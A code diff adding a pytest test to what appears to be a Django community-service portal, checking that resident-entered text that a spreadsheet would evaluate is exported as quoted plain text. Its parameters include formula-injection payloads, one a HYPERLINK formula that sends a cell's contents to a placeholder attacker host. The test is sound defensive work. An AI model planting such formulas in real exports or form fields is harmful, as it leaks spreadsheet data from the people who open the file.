@@ -429,6 +429,25 @@ def test_the_export_masks_phones_without_the_reveal_permission_and_is_audited(
     assert entry.changes["rows"] == 1 and entry.changes["clear_personal_data_rows"] == 1
 
 
+@pytest.mark.parametrize(
+    "planted", ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+1", "-1+1", "@SUM(1)"]
+)
+def test_a_formula_planted_through_the_portal_is_exported_as_plain_text(
+    client, world, service_world, secretary_a, planted
+):
+    """Issue 15, point 3: a resident's text that a spreadsheet would evaluate stays text."""
+    from openpyxl import load_workbook
+
+    file_request(world, service_world.garbage, contact_name=planted, description=f"{planted} 小区门口垃圾")
+    client.force_login(secretary_a)
+    response = client.get(reverse("service:request_export"))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    planted_cells = [cell for row in sheet.iter_rows() for cell in row if str(cell.value).startswith(planted)]
+    assert planted_cells
+    for cell in planted_cells:
+        assert cell.data_type == "s" and cell.quotePrefix
+
+
 # --- the request page's cost --------------------------------------------------------------------------
 
 
